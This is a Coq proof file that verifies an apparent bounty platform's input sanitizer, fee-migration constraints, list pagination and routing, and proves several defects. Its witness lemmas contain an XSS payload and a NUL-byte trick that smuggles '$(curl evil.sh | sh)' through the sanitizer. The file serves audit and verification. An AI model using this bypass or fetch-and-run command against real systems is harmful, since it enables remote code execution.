Lemma sanitizeUserInput_units_all input maxLength allowNewlines x :
  In x (sanitizeUserInput input
          {| maxLength := maxLength; allowNewlines := Some allowNewlines;
             context := Some all |}) ->
  x <> 0 /\ (allowNewlines = false -> x <> 10 /\ x <> 13) /\ x <> 60 /\ x <> 62.
Proof.
  unfold sanitizeUserInput.
  destruct input as [[|y input]|]; [intros []| |intros []].
  cbn zeta. cbn [context Sanitizer.allowNewlines default in_log_context
                 in_markdown_context].
  intros Hx. apply In_trim in Hx.
  apply escapeControl_units in Hx as (H0 & Hnl & Hsrc).
  split; [exact H0|]. split; [exact Hnl|].
  destruct Hsrc as [Hx|(_ & Hx)]; [|intuition (subst; discriminate)].
  unfold removeScriptTags in Hx.
  rewrite (replace_matches_id script_match _ 60) in Hx.
  - apply escapeHtml_units in Hx. exact Hx.
  - exact script_match_first.
  - intros Hin. apply escapeHtml_units in Hin. tauto.
Qed.

Lemma removeScriptTags_id_on_escaped s :
  removeScriptTags (escapeHtml s) = escapeHtml s.
Proof.
  unfold removeScriptTags.
  apply (replace_matches_id script_match _ 60); [exact script_match_first|].
  intros Hin. apply escapeHtml_units in Hin. tauto.
Qed.

(** ** Statements *)

(** X10.  In the contexts that escape HTML ('all', the default, and
    'markdown'), the result contains neither [<] nor [>], whatever the
    input and the other options. *)
Theorem sanitizeUserInput_leaves_no_angle_bracket
    (input : option jsString) (options : Options)
    (Hcontext : in_markdown_context (default all (context options)) = true) :
  Forall (fun c => c <> 60 /\ c <> 62) (sanitizeUserInput input options).
Proof.
  apply List.Forall_forall. intros x Hx.
  unfold sanitizeUserInput in Hx.
  destruct input as [[|y input]|]; [destruct Hx| |destruct Hx].
  cbn zeta in Hx. rewrite Hcontext in Hx.
  apply In_trim in Hx. unfold removeScriptTags in Hx.
  match type of Hx with
  | In x (if ?c then _ else _) => destruct c
  end.
  - apply escapeControl_units in Hx as (_ & _ & [Hx|(_ & Hx)]).
    + rewrite (replace_matches_id script_match _ 60) in Hx.
      * apply escapeHtml_units in Hx. exact Hx.
      * exact script_match_first.
      * intros Hin. apply escapeHtml_units in Hin. tauto.
    + intuition (subst; discriminate).
  - rewrite (replace_matches_id script_match _ 60) in Hx.
    + apply escapeHtml_units in Hx. exact Hx.
    + exact script_match_first.
    + intros Hin. apply escapeHtml_units in Hin. tauto.
Qed.

Lemma sanitizeUserInput_leaves_no_angle_bracket_witness :
  sanitizeUserInput (Some (codes "<img src=x onerror=alert(1)>")) noOptions
  = codes "&lt;img src=x onerror=alert(1)&gt;" /\
  Forall (fun c => c <> 60 /\ c <> 62)
    (sanitizeUserInput (Some (codes "<img src=x onerror=alert(1)>")) noOptions).
Proof.
  split; [vm_compute; reflexivity|].
  apply (sanitizeUserInput_leaves_no_angle_bracket
           (Some (codes "<img src=x onerror=alert(1)>")) noOptions).
  reflexivity.
Defined.

(** X11.  The replacement of script tags never fires.  It runs on the result of
    the two HTML replacements, which holds no [<], while every match of
    the pattern starts with one: the step returns its argument, for every
    string. *)
Theorem removeScriptTags_never_fires (s : jsString) :
  removeScriptTags (escapeHtml s) = escapeHtml s.
Proof. exact (removeScriptTags_id_on_escaped s). Qed.

(** X12.  The title and the body written by [sanitizeGitHubIssue].  The title
    is always a string: empty when the issue has none, otherwise without
    NUL, line feed, carriage return, [<] and [>].  The body is null when
    the issue has none or an empty one, otherwise without NUL, [<] and
    [>]; the other fields are copied. *)
Theorem sanitizeGitHubIssue_fields (Other : Type) (issue : Issue Other) :
  (exists t,
     title (sanitizeGitHubIssue issue) = Some t /\
     (truthy (title issue) = false -> t = []) /\
     Forall (fun c => c <> 0 /\ c <> 10 /\ c <> 13 /\ c <> 60 /\ c <> 62) t) /\
  match body (sanitizeGitHubIssue issue) with
  | None => truthy (body issue) = false
  | Some b => truthy (body issue) = true /\
              Forall (fun c => c <> 0 /\ c <> 60 /\ c <> 62) b
  end /\
  otherFields (sanitizeGitHubIssue issue) = otherFields issue.
Proof.
  unfold sanitizeGitHubIssue. cbn [title body otherFields].
  split; [|split; [|reflexivity]].
  - destruct (truthy (title issue)) eqn:Ht.
    + eexists. split; [reflexivity|]. split; [discriminate|].
      apply List.Forall_forall. intros x Hx.
      pose proof (sanitizeUserInput_units_all (title issue) (Some 500%Z) false x Hx)
        as (H0 & Hnl & Hlt).
      destruct (Hnl eq_refl). tauto.
    + exists []. split; [reflexivity|]. split; [reflexivity|]. constructor.
  - destruct (truthy (body issue)) eqn:Hb; [|reflexivity].
    split; [reflexivity|].
    apply List.Forall_forall. intros x Hx.
    pose proof (sanitizeUserInput_units_all (body issue) (Some 10000%Z) true x Hx)
      as (H0 & _ & Hlt). tauto.
Qed.

Lemma trim_id a middle z :
  is_trimmed a = false -> is_trimmed z = false ->
  trim (a :: middle ++ [z]) = a :: middle ++ [z].
Proof.
  intros Ha Hz. unfold trim. cbn [drop_while]. rewrite Ha.
  change (a :: middle ++ [z]) with ((a :: middle) ++ [z]).
  rewrite rev_app_distr. cbn [rev app drop_while]. rewrite Hz.
  change (z :: rev middle ++ [a]) with ([z] ++ rev (a :: middle)).
  rewrite rev_app_distr, rev_involutive. reflexivity.
Qed.

Lemma plain_not_In c command :
  Forall plain command ->
  c = 0 \/ c = 10 \/ c = 13 \/ c = 27 \/ c = 36 \/ c = 60 \/ c = 62 \/ c = 96 ->
  ~ In c command.
Proof.
  intros Hplain Hc Hin.
  apply (proj1 (List.Forall_forall _ _) Hplain) in Hin.
  unfold plain in Hin. intuition congruence.
Qed.

(** X13.  A NUL hides a command substitution.  The shell sequences are escaped
    before NUL is removed: in the contexts 'all' and 'log', an input in
    which a NUL stands between [$] and [(] passes the three shell
    replacements unchanged, and the later removal of the NUL puts [$(]
    together.  For every command text of plain units that fits the length
    limit, the result is the unescaped [$(command)]. *)
Theorem nul_hides_command_substitution (command : jsString) (options : Options)
    (Hcontext : in_log_context (default all (context options)) = true)
    (Hlength : (Z.of_nat (length command) + 4
                <= default 10000 (maxLength options))%Z)
    (Hplain : Forall plain command) :
  sanitizeUserInput (Some ([36; 0; 40] ++ command ++ [41])) options
  = [36; 40] ++ command ++ [41].
Proof.
  assert (Hno : forall c,
            c = 0 \/ c = 10 \/ c = 13 \/ c = 27 \/ c = 36 \/ c = 60 \/ c = 62 \/ c = 96 ->
            ~ In c (40 :: command ++ [41])).
  { intros c Hc [H|H]; [intuition (subst; discriminate)|].
    apply in_app_iff in H as [H|[H|[]]].
    - exact (plain_not_In c command Hplain Hc H).
    - intuition (subst; discriminate). }
  unfold sanitizeUserInput. cbn [app]. cbn zeta. rewrite Hcontext.
  rewrite firstn_all2 by (cbn [length]; rewrite length_app; cbn [length]; lia).
  assert (Hshell : escapeShell (36 :: 0 :: 40 :: command ++ [41])
                   = 36 :: 0 :: 40 :: command ++ [41]).
  { unfold escapeShell.
    rewrite (replace_unit_id 96).
    2:{ intros [H|[H|H]]; try discriminate. revert H. apply Hno. tauto. }
    rewrite (replace_pair_cons 36 40). cbn [N.eqb Pos.eqb andb].
    rewrite (replace_pair_id 36 40).
    2:{ intros [H|H]; try discriminate. revert H. apply Hno. tauto. }
    rewrite (replace_pair_cons 36 123). cbn [N.eqb Pos.eqb andb].
    rewrite (replace_pair_id 36 123).
    2:{ intros [H|H]; try discriminate. revert H. apply Hno. tauto. }
    reflexivity. }
  rewrite Hshell.
  assert (Hhtml : (if in_markdown_context (default all (context options))
                   then removeScriptTags (escapeHtml (36 :: 0 :: 40 :: command ++ [41]))
                   else 36 :: 0 :: 40 :: command ++ [41])
                  = 36 :: 0 :: 40 :: command ++ [41]).
  { destruct (in_markdown_context _); [|reflexivity].
    rewrite removeScriptTags_id_on_escaped. unfold escapeHtml.
    rewrite (replace_unit_id 60).
    2:{ intros [H|[H|H]]; try discriminate. revert H. apply Hno. tauto. }
    rewrite (replace_unit_id 62).
    2:{ intros [H|[H|H]]; try discriminate. revert H. apply Hno. tauto. }
    reflexivity. }
  rewrite Hhtml.
  assert (Hcontrol : forall allowNewlines,
            escapeControl allowNewlines (36 :: 0 :: 40 :: command ++ [41])
            = 36 :: 40 :: command ++ [41]).
  { intros allowNewlines. unfold escapeControl. cbn zeta.
    change (replace_unit 0 [] (36 :: 0 :: 40 :: command ++ [41]))
      with (36 :: replace_unit 0 [] (40 :: command ++ [41])).
    rewrite (replace_unit_id 0) by (apply Hno; tauto).
    assert (Hnl : (if negb allowNewlines
                   then replace_unit 13 (codes "\r")
                          (replace_unit 10 (codes "\n") (36 :: 40 :: command ++ [41]))
                   else 36 :: 40 :: command ++ [41])
                  = 36 :: 40 :: command ++ [41]).
    { destruct (negb allowNewlines); [|reflexivity].
      rewrite (replace_unit_id 10).
      2:{ intros [H|H]; try discriminate. revert H. apply Hno. tauto. }
      rewrite (replace_unit_id 13).
      2:{ intros [H|H]; try discriminate. revert H. apply Hno. tauto. }
      reflexivity. }
    rewrite Hnl.
    apply (replace_matches_id ansi_match _ 27); [exact ansi_match_first|].
    intros [H|H]; try discriminate. revert H. apply Hno. tauto. }
  rewrite Hcontrol.
  change (36 :: 40 :: command ++ [41]) with (36 :: (40 :: command) ++ [41]).
  apply trim_id; reflexivity.
Qed.

Lemma nul_hides_command_substitution_witness :
  sanitizeUserInput (Some (codes "$" ++ [0] ++ codes "(curl evil.sh | sh)")) noOptions
  = codes "$(curl evil.sh | sh)".
Proof.
  refine (nul_hides_command_substitution (codes "curl evil.sh | sh") noOptions
            eq_refl _ _).
  - vm_compute. discriminate.
  - unfold plain. vm_compute. repeat constructor; discriminate.
Defined.

End SanitizerProps.

(* ===================================================================== *)
(** * Properties of the fee columns *)
(* ===================================================================== *)

Module FeeMigrationProps.
Import FeeMigration.

Local Open Scope Q_scope.

#[export] Instance ROUND8_proper : Proper (Qeq ==> Qeq) ROUND8.
Proof.
  intros x y H. unfold ROUND8. cbn zeta.
  assert (Hs : x * inject_Z 100000000 == y * inject_Z 100000000)
    by (rewrite H; reflexivity).
  rewrite (Qleb_comp 0 0 (Qeq_refl 0) _ _ Hs).
  rewrite (Qfloor_comp (x * inject_Z 100000000 + (1 # 2))
             (y * inject_Z 100000000 + (1 # 2))) by (rewrite Hs; reflexivity).
  rewrite (Qfloor_comp (- (x * inject_Z 100000000) + (1 # 2))
             (- (y * inject_Z 100000000) + (1 # 2))) by (rewrite Hs; reflexivity).
  reflexivity.
Qed.

#[export] Instance Qlt_bool_proper : Proper (Qeq ==> Qeq ==> eq) Qlt_bool.
Proof.
  intros x x' Hx y y' Hy. unfold Qlt_bool.
  rewrite (Qleb_comp _ _ Hy _ _ Hx). reflexivity.
Qed.

(** On a value that is not negative, [ROUND(x, 8)] is the floor of the
    scaled value plus one half. *)
Lemma ROUND8_nonneg (x : Q) :
  0 <= x ->
  ROUND8 x
  == inject_Z (Qfloor (x * inject_Z 100000000 + (1 # 2))) / inject_Z 100000000.
Proof.
  intros Hx. unfold ROUND8. cbn zeta.
  assert (H : Qle_bool 0 (x * inject_Z 100000000) = true).
  { apply Qle_bool_iff. apply Qmult_le_0_compat; [exact Hx|]. discriminate. }
  rewrite H. reflexivity.
Qed.

Lemma decimal8_nonneg (n : Z) (q : Q) : (0 <= n)%Z -> 0 <= q -> 0 <= decimal8 n * q.
Proof.
  intros Hn Hq. apply Qmult_le_0_compat; [|exact Hq].
  unfold decimal8, Qdiv. apply Qmult_le_0_compat; [|discriminate].
  unfold Qle. cbn. lia.
Qed.

(** 2.5% and 5% of [n] units, rounded to a whole number of units. *)
Lemma ROUND8_fee (n : Z) :
  (0 <= n)%Z -> ROUND8 (decimal8 n * (25 # 1000)) == decimal8 ((n + 20) / 40).
Proof.
  intros Hn. rewrite ROUND8_nonneg by (apply decimal8_nonneg; [exact Hn|discriminate]).
  unfold decimal8.
  rewrite (Qfloor_comp _ ((n + 20) # 40)); [reflexivity|].
  rewrite (Qmake_Qdiv (n + 20) 40), inject_Z_plus.
  rewrite (Qmake_Qdiv 25 1000), (Qmake_Qdiv 1 2). field.
Qed.

Lemma ROUND8_double_fee (n : Z) :
  (0 <= n)%Z -> ROUND8 (decimal8 n * (5 # 100)) == decimal8 ((n + 10) / 20).
Proof.
  intros Hn. rewrite ROUND8_nonneg by (apply decimal8_nonneg; [exact Hn|discriminate]).
  unfold decimal8.
  rewrite (Qfloor_comp _ ((n + 10) # 20)); [reflexivity|].
  rewrite (Qmake_Qdiv (n + 10) 20), inject_Z_plus.
  rewrite (Qmake_Qdiv 5 100), (Qmake_Qdiv 1 2). field.
Qed.

Lemma decimal8_eq (a b : Z) : decimal8 a == decimal8 b <-> a = b.
Proof.
  unfold decimal8, Qeq, Qdiv, Qmult, Qinv, inject_Z. cbn [Qnum Qden]. lia.
Qed.

Lemma decimal8_plus (a b : Z) : decimal8 a + decimal8 b == decimal8 (a + b).
Proof. unfold decimal8. rewrite inject_Z_plus. field. Qed.

Lemma decimal8_minus (a b : Z) : decimal8 a - decimal8 b == decimal8 (a - b).
Proof.
  unfold decimal8, Z.sub. rewrite inject_Z_plus, inject_Z_opp. field.
Qed.

Lemma decimal8_pos (n : Z) : Qlt_bool 0 (decimal8 n) = true <-> (0 < n)%Z.
Proof.
  unfold Qlt_bool. rewrite negb_true_iff, <- not_true_iff_false, Qle_bool_iff.
  unfold decimal8, Qle, Qdiv, Qmult, Qinv, inject_Z. cbn [Qnum Qden]. lia.
Qed.

Lemma Qeq_bool_true (x y : Q) : Qeq_bool x y = true <-> x == y.
Proof. apply Qeq_bool_iff. Qed.

(** ** Statements *)

(** X14.  The backfill of migration 0023 against the constraints the same
    migration adds.  The total fee is backfilled as ROUND(amount * 0.05, 8)
    while the constraint wants the sum of the two fees, each
    ROUND(amount * 0.025, 8): a row with an amount of [n > 0] units of
    10^-8 passes the five constraints exactly when [n mod 40] is below 10
    or at least 30, that is when rounding 5% once gives what rounding 2.5%
    twice gives. *)
Theorem backfill_meets_constraints_iff (n : Z) (Hpos : (0 < n)%Z) :
  fee_constraints (backfill (decimal8 n)) = true <->
  (n mod 40 < 10 \/ 30 <= n mod 40)%Z.
Proof.
  unfold fee_constraints, check_base_amount_positive,
    check_client_fee_is_2_5_percent, check_contributor_fee_is_2_5_percent,
    check_total_fee_equals_sum, check_total_paid_equals_base_plus_client_fee,
    backfill.
  cbn [base_bounty_amount client_fee_amount contributor_fee_amount
       total_platform_fee total_paid_by_client].
  rewrite !andb_true_iff, !Qeq_bool_true, decimal8_pos.
  rewrite ROUND8_fee, ROUND8_double_fee by lia.
  rewrite !decimal8_plus, !decimal8_eq.
  split.
  - intros ((((_ & _) & _) & Hsum) & _). Z.div_mod_to_equations. lia.
  - intros Hmod. repeat split; try reflexivity; try lia.
    Z.div_mod_to_equations. lia.
Qed.

Lemma backfill_meets_constraints_iff_witness :
  fee_constraints (backfill (decimal8 10000000000)) = true /\
  fee_constraints (backfill (decimal8 10000000010)) = false.
Proof.
  split.
  - apply (proj2 (backfill_meets_constraints_iff 10000000000 eq_refl)).
    left. reflexivity.
  - apply not_true_iff_false. intros H.
    apply (proj1 (backfill_meets_constraints_iff 10000000010 eq_refl)) in H.
    vm_compute in H. destruct H as [H|H]; [discriminate H|apply H; reflexivity].
Defined.

End FeeMigrationProps.

(* ===================================================================== *)
(** * The decimal breakdown against the CHECK constraints *)
(* ===================================================================== *)

Module DecimalConstraintsProps.
Import DecimalFees DecimalFeesProps FeeMigration.

Local Open Scope Q_scope.

(** The decimal breakdown of an amount of [n > 0] units of 10^-8 is the
    row the five CHECK constraints of migration 0023 admit. *)
Lemma decimal_fees_meet_constraints (n : Z) :
  (0 < n)%Z -> fee_constraints (fee_columns (fees (decimal8 n))) = true.
Proof.
  intros Hn.
  destruct (breakdown_sums (decimal8 n)) as (Htotal & Hpaid & _).
  cbn zeta in Htotal, Hpaid.
  assert (Hbase : baseBountyAmount (fees (decimal8 n)) == decimal8 n)
    by (apply round8_of_fixed).
  assert (Hpos : 0 < decimal8 n).
  { unfold decimal8, Qlt, Qdiv, Qmult, Qinv, inject_Z. cbn [Qnum Qden]. lia. }
  assert (Hfee : ROUND8 (baseBountyAmount (fees (decimal8 n)) * (25 # 1000))
                 == clientFeeAmount (fees (decimal8 n))).
  { rewrite ROUND8_is_round8.
    - rewrite Hbase. apply Qeq_refl.
    - rewrite Hbase. apply Qmult_le_0_compat; [apply Qlt_le_weak, Hpos|discriminate]. }
  unfold fee_constraints, check_base_amount_positive,
    check_client_fee_is_2_5_percent, check_contributor_fee_is_2_5_percent,
    check_total_fee_equals_sum, check_total_paid_equals_base_plus_client_fee,
    fee_columns.
  cbn [base_bounty_amount client_fee_amount contributor_fee_amount
       total_platform_fee total_paid_by_client].
  rewrite !andb_true_iff. repeat split.
  - unfold Qlt_bool. apply negb_true_iff, not_true_iff_false.
    rewrite Qle_bool_iff, Hbase. apply Qlt_not_le, Hpos.
  - apply Qeq_bool_iff. symmetry. exact Hfee.
  - apply Qeq_bool_iff. symmetry. exact Hfee.
  - apply Qeq_bool_iff. exact Htotal.
  - apply Qeq_bool_iff. exact Hpaid.
Qed.

End DecimalConstraintsProps.

(* ===================================================================== *)
(** * The list route and the order of the routes *)
(* ===================================================================== *)

Module ListRouteProps.
Import BountyStore ListRoute.

Lemma filter_and {A : Type} (p q : A -> bool) (l : list A) :
  List.filter q (List.filter p l) = List.filter (fun x => p x && q x) l.
Proof.
  induction l as [|x l IH]; [reflexivity|].
  cbn. destruct (p x); cbn; [destruct (q x)|]; congruence.
Qed.

Lemma filter_true {A : Type} (l : list A) : List.filter (fun _ => true) l = l.
Proof. induction l as [|x l IH]; cbn; congruence. Qed.

Lemma filter_ext' {A : Type} (p q : A -> bool) (l : list A) :
  (forall x, p x = q x) -> List.filter p l = List.filter q l.
Proof. intros H. induction l as [|x l IH]; cbn; [|rewrite H, IH]; reflexivity. Qed.

(** The successive filters keep the rows that pass all of them. *)
Lemma apply_filters_passes (f : Filters) (allBounties : list Listed) :
  apply_filters f allBounties = List.filter (passes f) allBounties.
Proof.
  unfold apply_filters.
  set (p1 := fun b : Listed =>
               match f_status f with
               | Some s => String.eqb (status_name (status (bounty b))) s
               | None => true
               end).
  set (p2 := fun b : Listed =>
               match f_currency f with
               | Some c => String.eqb (currency (bounty b)) c
               | None => true
               end).
  set (p3 := fun b : Listed =>
               match f_repo f with
               | Some (owner, name) =>
                   String.eqb (githubRepoOwner (bounty b)) owner
                   && String.eqb (githubRepoName (bounty b)) name
               | None => true
               end).
  set (p4 := fun b : Listed =>
               match f_createdByGithubUsername f with
               | Some u => String.eqb (createdByGithubUsername b) u
               | None => true
               end).
  transitivity
    (List.filter p4 (List.filter p3 (List.filter p2 (List.filter p1 allBounties)))).
  - subst p1 p2 p3 p4.
    destruct (f_status f), (f_currency f), (f_repo f) as [[owner name]|],
      (f_createdByGithubUsername f); rewrite ?filter_true; reflexivity.
  - rewrite !filter_and. apply filter_ext'. intros x.
    unfold passes. subst p1 p2 p3 p4. cbv beta. rewrite !andb_assoc. reflexivity.
Qed.

Lemma length_filter_le {A : Type} (p : A -> bool) (l : list A) :
  (length (List.filter p l) <= length l)%nat.
Proof. induction l as [|x l IH]; cbn; [lia|]. destruct (p x); cbn; lia. Qed.

Lemma In_slice {A : Type} (start end_ : Z) (l : list A) (x : A) :
  In x (JsLib.slice start end_ l) -> In x l.
Proof.
  unfold JsLib.slice. intros H.
  set (from := Z.to_nat (JsLib.relative_index (Z.of_nat (length l)) start)) in *.
  rewrite <- (firstn_skipn from l). apply in_or_app. right.
  set (rest := skipn from l) in *.
  rewrite <- (firstn_skipn
                (Z.to_nat (JsLib.relative_index (Z.of_nat (length l)) end_
                           - JsLib.relative_index (Z.of_nat (length l)) start)) rest).
  apply in_or_app. left. exact H.
Qed.

Lemma length_slice {A : Type} (start end_ : Z) (l : list A) :
  Z.of_nat (length (JsLib.slice start end_ l))
  = Z.max 0 (JsLib.relative_index (Z.of_nat (length l)) end_
             - JsLib.relative_index (Z.of_nat (length l)) start).
Proof.
  unfold JsLib.slice. rewrite length_firstn, length_skipn.
  unfold JsLib.relative_index.
  destruct (Z.ltb_spec start 0), (Z.ltb_spec end_ 0); lia.
Qed.

Lemma slice_from_start {A : Type} (start count : Z) (l : list A) :
  0 <= start -> 0 <= count ->
  JsLib.slice start (start + count) l
  = firstn (Z.to_nat count) (skipn (Z.to_nat start) l).
Proof.
  intros Hs Hc. unfold JsLib.slice, JsLib.relative_index.
  destruct (Z.ltb_spec start 0); [lia|].
  destruct (Z.ltb_spec (start + count) 0); [lia|].
  set (len := length l).
  destruct (Z.le_gt_cases (Z.of_nat len) start) as [Hbig|Hsmall].
  - rewrite !skipn_all2 by (fold len; lia). rewrite !firstn_nil. reflexivity.
  - rewrite (Z.min_l start) by lia.
    destruct (Z.le_gt_cases (start + count) (Z.of_nat len)).
    + rewrite Z.min_l by lia. f_equal. lia.
    + rewrite Z.min_r by lia.
      rewrite !firstn_all2; [reflexivity| |]; rewrite length_skipn; fold len; lia.
Qed.

Lemma limitNum_le_100 (q : Query) : limitNum q <= 100.
Proof. unfold limitNum. lia. Qed.

(** ** Statements *)

(** X15.  The list route returns rows of the stored list only, each of which
    passes every filter the query sets; [total] counts all the rows that
    pass, whatever the page; the page is never longer than [total]; and
    when the parsed offset is not negative and the parsed limit is
    positive, the page is the [limit] rows that follow the first [offset]
    ones, so it holds at most [limit] rows and [limit] is at most 100. *)
Theorem listBounties_page_and_total (allBounties : list Listed) (q : Query) :
  Forall (fun b => In b allBounties /\ passes (filters_of q) b = true)
         (bounties (listBounties allBounties q)) /\
  total (listBounties allBounties q)
  = Z.of_nat (length (List.filter (passes (filters_of q)) allBounties)) /\
  Z.of_nat (length (bounties (listBounties allBounties q)))
  <= total (listBounties allBounties q) /\
  (0 <= offsetNum q -> 0 < limitNum q ->
   bounties (listBounties allBounties q)
   = firstn (Z.to_nat (limitNum q))
       (skipn (Z.to_nat (offsetNum q))
          (List.filter (passes (filters_of q)) allBounties)) /\
   Z.of_nat (length (bounties (listBounties allBounties q))) <= limitNum q /\
   limitNum q <= 100).
Proof.
  unfold listBounties. cbn [bounties total].
  rewrite apply_filters_passes.
  set (filtered := List.filter (passes (filters_of q)) allBounties).
  split; [|split; [reflexivity|split]].
  - apply List.Forall_forall. intros b Hb.
    apply In_slice in Hb. apply filter_In in Hb. exact Hb.
  - rewrite length_slice. unfold JsLib.relative_index.
    destruct (Z.ltb_spec (offsetNum q) 0),
      (Z.ltb_spec (offsetNum q + limitNum q) 0); lia.
  - intros Hoff Hlim.
    rewrite slice_from_start by lia.
    split; [reflexivity|split; [|apply limitNum_le_100]].
    rewrite length_firstn. lia.
Qed.

(** X16.  A negative [limit] is not brought back to the default and passes the
    cap of 100: with no offset, [limit=-k] (a number a double holds
    exactly) returns all the rows that pass the filters but the last [k],
    however many they are. *)
Theorem listBounties_negative_limit (allBounties : list Listed) (q : Query) (k : Z)
    (Hlimit : JsLib.parseInt (default "20"%string (q_limit q)) = Some (- k))
    (Hk : 0 < k <= 2 ^ 53)
    (Hoffset : q_offset q = None) :
  limit (listBounties allBounties q) = - k /\
  bounties (listBounties allBounties q)
  = firstn (length (List.filter (passes (filters_of q)) allBounties) - Z.to_nat k)
      (List.filter (passes (filters_of q)) allBounties).
Proof.
  unfold listBounties. cbn [bounties limit].
  rewrite apply_filters_passes.
  set (filtered := List.filter (passes (filters_of q)) allBounties).
  assert (Hlim : limitNum q = - k).
  { unfold limitNum. rewrite Hlimit. unfold JsLib.number_or.
    destruct (Z.eqb_spec (- k) 0); lia. }
  assert (Hoff : offsetNum q = 0).
  { unfold offsetNum. rewrite Hoffset. reflexivity. }
  rewrite Hlim, Hoff. split; [reflexivity|].
  unfold JsLib.slice, JsLib.relative_index. rewrite Z.add_0_l.
  change (0 <? 0) with false. cbv iota.
  destruct (Z.ltb_spec (- k) 0); [|lia].
  rewrite Z.min_l by lia. change (Z.to_nat 0) with O. cbn [skipn].
  f_equal. fold filtered. lia.
Qed.

Lemma listBounties_negative_limit_witness :
  limit (listBounties ListScenarios.manyRows ListScenarios.negativeLimit) = - 1 /\
  bounties (listBounties ListScenarios.manyRows ListScenarios.negativeLimit)
  = firstn (length (List.filter (passes (filters_of ListScenarios.negativeLimit))
                      ListScenarios.manyRows) - Z.to_nat 1)
      (List.filter (passes (filters_of ListScenarios.negativeLimit))
         ListScenarios.manyRows).
Proof.
  exact (listBounties_negative_limit ListScenarios.manyRows
           ListScenarios.negativeLimit 1 eq_refl ltac:(lia) eq_refl).
Defined.

End ListRouteProps.

Module RouterProps.
Import Router.

Lemma lower_l (c : ascii) : lower c = "l"%char -> c = "l"%char \/ c = "L"%char.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; intros H;
    try discriminate H; auto.
Qed.

(** A segment that reads [leaderboard], in whatever case, is not empty
    and does not start a number. *)
Lemma leaderboard_segment (seg : string) :
  same_text "leaderboard" seg = true ->
  String.eqb seg "" = false /\ JsLib.parseInt seg = None.
Proof.
  unfold same_text. intros H. apply String.eqb_eq in H.
  destruct seg as [|c rest]; [discriminate H|].
  cbn [lower_string] in H. injection H as Hc _. symmetry in Hc.
  destruct (lower_l c Hc) as [-> | ->]; split; reflexivity.
Qed.

Lemma first_match_leaderboard (segs : list string) :
  match_segments leaderboardPattern segs <> None ->
  exists id, segs = [nth 0 segs ""%string; nth 1 segs ""%string; id] /\
             same_text "leaderboard" id = true /\
             first_match routes GET segs = Some (GetBounty, [("id"%string, id)]).
Proof.
  unfold leaderboardPattern. intros H.
  destruct segs as [|a [|b [|c [|d segs]]]]; cbn [match_segments] in H;
    try congruence.
  - destruct (same_text "api" a); congruence.
  - destruct (same_text "api" a); [|congruence].
    destruct (same_text "community-bounties" b); congruence.
  - destruct (same_text "api" a) eqn:Ha; [|congruence].
    destruct (same_text "community-bounties" b) eqn:Hb; [|congruence].
    destruct (same_text "leaderboard" c) eqn:Hc; [|congruence].
    exists c. split; [reflexivity|]. split; [exact Hc|].
    destruct (leaderboard_segment c Hc) as [Hne _].
    unfold routes. cbn [first_match].
    repeat match goal with
           | |- context [bool_decide (?x = ?y)] =>
               let d := eval vm_compute in (bool_decide (x = y)) in
               change (bool_decide (x = y)) with d; cbv iota
           end.
    cbn [match_segments]. rewrite Ha, Hb, Hne. reflexivity.
  - destruct (same_text "api" a); [|congruence].
    destruct (same_text "community-bounties" b); [|congruence].
    destruct (same_text "leaderboard" c); congruence.
Qed.

Lemma first_match_not_leaderboard (m : Method) (segs : list string)
    (params : list (string * string)) :
  first_match routes m segs <> Some (Leaderboard, params).
Proof.
  destruct m.
  - destruct (match_segments leaderboardPattern segs) eqn:Hl.
    + destruct (first_match_leaderboard segs) as (id & _ & _ & ->); congruence.
    + unfold routes. cbn [first_match].
      repeat match goal with
             | |- context [bool_decide (?a = ?b)] =>
                 let d := eval vm_compute in (bool_decide (a = b)) in
                 change (bool_decide (a = b)) with d; cbv iota
             end.
      fold leaderboardPattern. rewrite Hl.
      repeat match goal with
             | |- context [match match_segments ?p ?s with _ => _ end] =>
                 destruct (match_segments p s)
             end; congruence.
  - unfold routes. cbn [first_match].
    repeat match goal with
           | |- context [bool_decide (?a = ?b)] =>
               let d := eval vm_compute in (bool_decide (a = b)) in
               change (bool_decide (a = b)) with d; cbv iota
           end.
    repeat match goal with
           | |- context [match match_segments ?p ?s with _ => _ end] =>
               destruct (match_segments p s)
           end; congruence.
Qed.

(** ** Statements *)

(** X17.  The leaderboard route is registered after
    [/api/community-bounties/:id], so no request reaches its handler:
    every GET whose path matches the leaderboard route is answered by the
    handler of [/:id] with [id] bound to the text [leaderboard], which is
    no number, and the answer is 400 'Invalid bounty ID' whatever the
    database holds. *)
Theorem leaderboard_route_is_never_reached (m : Method) (path : string) :
  (forall params, dispatch m path <> Some (Leaderboard, params)) /\
  (forall segs,
     segments path = Some segs ->
     match_segments leaderboardPattern segs <> None ->
     exists id,
       dispatch GET path = Some (GetBounty, [("id"%string, id)]) /\
       forall db, GetRoute.getBounty id db
                  = GetRoute.Error 400 "Invalid bounty ID").
Proof.
  split.
  - intros params. unfold dispatch.
    destruct (segments path); [apply first_match_not_leaderboard|discriminate].
  - intros segs Hsegs Hmatch.
    destruct (first_match_leaderboard segs Hmatch) as (id & _ & Hid & Hfirst).
    exists id. unfold dispatch. rewrite Hsegs. split; [exact Hfirst|].
    intros db. unfold GetRoute.getBounty.
    destruct (leaderboard_segment id Hid) as [_ ->]. reflexivity.
Qed.

End RouterProps.
